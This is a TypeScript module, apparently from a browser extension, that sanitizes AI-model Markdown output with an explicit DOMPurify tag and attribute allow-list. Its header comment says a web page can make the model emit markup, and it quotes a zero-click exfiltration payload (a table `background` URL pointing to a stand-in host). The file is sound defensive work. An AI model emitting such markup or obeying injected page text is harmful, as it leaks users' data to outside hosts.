/**
 * Model output is untrusted: a page can make the model repeat any markup it likes. Markdown is rendered
 * by `marked`, then DOMPurify keeps only an EXPLICIT allow-list of tags and, per tag, of attributes.
 *
 * Why an allow-list and not DOMPurify's defaults plus forbids: the default list keeps attributes that
 * make Chromium fetch without a click, e.g. `<table background="https://x.example/?d=…">` (HTML's
 * obsolete `background` on table/td/th/tr/tbody is still fetched as an image). Any attribute that
 * carries a URL is an exfiltration channel with zero clicks, so none survives except `a[href]` with
 * http(s) or mailto (fetched only when the user clicks). Images are never loaded: Markdown images
 * render as plain links. The extension-page CSP (manifest.json, docs/security-panel.md) blocks remote
 * fetches too, so a sanitizer miss still cannot leak; this list is the first of two walls.
 */
import DOMPurify from 'dompurify';
import { Marked } from 'marked';

const marked = new Marked({
  gfm: true,
  breaks: true,
  async: false,
  renderer: {
    image({ href, text }) {
      const label = text.trim() === '' ? 'image' : text;
      return `<a href="${escapeAttr(href)}">[image: ${escapeText(label)}]</a>`;
    },
    // GFM task lists would emit <input type=checkbox>; a glyph says the same without a form control.
    checkbox({ checked }) {
      return checked ? '☑ ' : '☐ ';
    },
  },
});

function escapeAttr(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');
}
function escapeText(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

/**
 * Tags → the attributes each may keep. Only what `marked` emits for Markdown (plus a few inline
 * formatting tags models write as HTML). No tag here can fetch by itself; none of the attributes is a
 * URL except `a[href]`, which the hook below restricts to http(s)/mailto.
 */
const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  a: ['href', 'title'],
  p: [],
  br: [],
  hr: [],
  h1: [],
  h2: [],
  h3: [],
  h4: [],
  h5: [],
  h6: [],
  strong: [],
  b: [],
  em: [],
  i: [],
  u: [],
  del: [],
  s: [],
  sub: [],
  sup: [],
  mark: [],
  small: [],
  kbd: [],
  code: [],
  pre: [],
  blockquote: [],
  ul: [],
  ol: ['start'],
  li: [],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ['align'],
  td: ['align'],
  details: [],
  summary: [],
};
export const ALLOWED_TAGS: readonly string[] = Object.keys(ALLOWED);
export const ALLOWED_ATTR: readonly string[] = [...new Set(Object.values(ALLOWED).flat())];
/** Attributes the sanitizer itself adds to links (never taken from the input). */
const ADDED_LINK_ATTR = ['target', 'rel'];

const SAFE_LINK = /^(?:https?:|mailto:)/i;
/**
 * DOMPurify tests every kept attribute value against this (not only URL attributes), so plain values
 * like `align="right"` must pass: DOMPurify's default pattern with the scheme list cut to ours. The
 * hook below still checks `a[href]` against SAFE_LINK, which rejects relative and scheme-less URLs.
 */
const URI_PATTERN = /^(?:(?:https?|mailto):|[^a-z]|[a-z+.-]+(?:[^a-z+.\-:]|$))/i;
let purifier: ReturnType<typeof DOMPurify> | null = null;

function getPurifier(): ReturnType<typeof DOMPurify> {
  if (purifier) return purifier;
  const p = DOMPurify(window);
  p.addHook('afterSanitizeAttributes', (node) => {
    const tag = node.tagName.toLowerCase();
    const keep = ALLOWED[tag] ?? [];
    // Per-tag: DOMPurify's ALLOWED_ATTR is global, so `href` would otherwise pass on any allowed tag.
    for (const name of node.getAttributeNames()) {
      if (!keep.includes(name)) node.removeAttribute(name);
    }
    if (tag !== 'a') return;
    const href = (node.getAttribute('href') ?? '').trim();
    if (!SAFE_LINK.test(href)) {
      node.removeAttribute('href');
      return;
    }
    // A click must not navigate the panel itself, nor tell the target where it came from.
    node.setAttribute('target', '_blank');
    node.setAttribute('rel', 'noopener noreferrer');
  });
  purifier = p;
  return p;
}

/** Markdown → sanitized HTML, safe for `dangerouslySetInnerHTML`. */
export function renderMarkdown(text: string): string {
  const html = marked.parse(text);
  if (typeof html !== 'string') return '';
  return getPurifier().sanitize(html, {
    ALLOWED_TAGS: [...ALLOWED_TAGS],
    ALLOWED_ATTR: [...ALLOWED_ATTR, ...ADDED_LINK_ATTR],
    ALLOW_DATA_ATTR: false,
    ALLOW_ARIA_ATTR: false,
    ALLOWED_URI_REGEXP: URI_PATTERN,
    // Text inside a dropped tag stays (as text); svg/math and their URL attributes never pass.
    KEEP_CONTENT: true,
  });
}

/** For tests: which attributes a rendered element of `tag` may carry. */
export function allowedAttributes(tag: string): readonly string[] {
  const t = tag.toLowerCase();
  return t === 'a' ? [...(ALLOWED[t] ?? []), ...ADDED_LINK_ATTR] : (ALLOWED[t] ?? []);
}
